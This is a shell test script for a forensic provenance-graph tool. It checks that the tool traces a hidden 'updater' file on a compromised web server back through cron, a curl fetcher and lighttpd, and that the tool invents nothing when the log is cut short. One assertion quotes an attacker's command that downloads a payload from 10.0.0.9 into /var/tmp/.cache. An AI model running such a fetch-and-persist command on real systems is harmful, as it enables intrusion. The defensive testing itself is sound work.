#!/bin/sh
# SPDX-License-Identifier: MIT
# A window of half a minute, and a file in it that was made before: its maker is followed back through the log, with all that made that.
. "$SRCDIR/tests/lib.sh"
requires jq
log=$SRCDIR/samples/web-cron/audit.log.zst
ask() {
	expect_status 0 "$PROVGRAPH" --log "$log" --alert-ip 10.0.0.5 --utc --quiet "$@"
}
ask --window 30s --json
cp out case.json

# The window holds cron and what it ran. Before it: who was asked for a page, fetched the updater, and installed the job.
for pid in 12456 21296 21302 21306 21309 21310 23277; do
	jq -e --argjson pid "$pid" '[.nodes[], .folded[].members[]] | any(.pid == $pid)' case.json >jq.out || fail "no process $pid"
done
jq -e '.nodes[] | select(.path == "/var/tmp/.cache/updater") | .on_path and .first < "2026-11-21T13:25:30"' case.json >jq.out || fail "the updater's making"
jq -e 'any(.edges[]; .op == "create" and .on_path)' case.json >jq.out || fail "no creation on the path"
jq -e '.nodes[] | select(.pid == 21306) | .command == "curl -s -o /var/tmp/.cache/updater http://10.0.0.9/u"' case.json >jq.out || fail "the fetcher's command"
jq -e 'any(.nodes[]; .kind == "address" and .address == "10.0.0.9")' case.json >jq.out || fail "where it was fetched from"
jq -e '.nodes[] | select(.root_cause) | .name == "lighttpd"' case.json >jq.out || fail "root cause: $(jq -c '[.nodes[] | select(.root_cause) | .name]' case.json)"

# What was read for the window is told as before, though it was read twice.
from=$(jq -r '.inputs[0].from' case.json) to=$(jq -r '.inputs[0].to' case.json)
digest=$(zstdcat "$log" | tail -c "+$((from + 1))" | head -c "$((to - from))" | sha256sum | cut -d' ' -f1)
[ "$digest" = "$(jq -r '.inputs[0].sha256' case.json)" ] || fail "digest of what was read"

# The same twice.
ask --window 30s --json
cmp -s out case.json || fail "two runs differ"

# A log that does not reach so far back: nothing is made up.
zstdcat "$log" | awk '{ split($2, stamp, /[(:]/); if (stamp[2] >= 1795267520) print }' >short.log
"$PROVGRAPH" --log short.log --alert-ip 10.0.0.5 --window 30s --utc --quiet --json >short.json 2>err || [ $? -eq 3 ] || fail "a short log"
jq -e 'any(.nodes[]; .path == "/var/tmp/.cache/updater")' short.json >jq.out || fail "the updater itself"
! jq -e 'any(.nodes[]; .pid == 21306)' short.json >jq.out || fail "a maker that no log names"
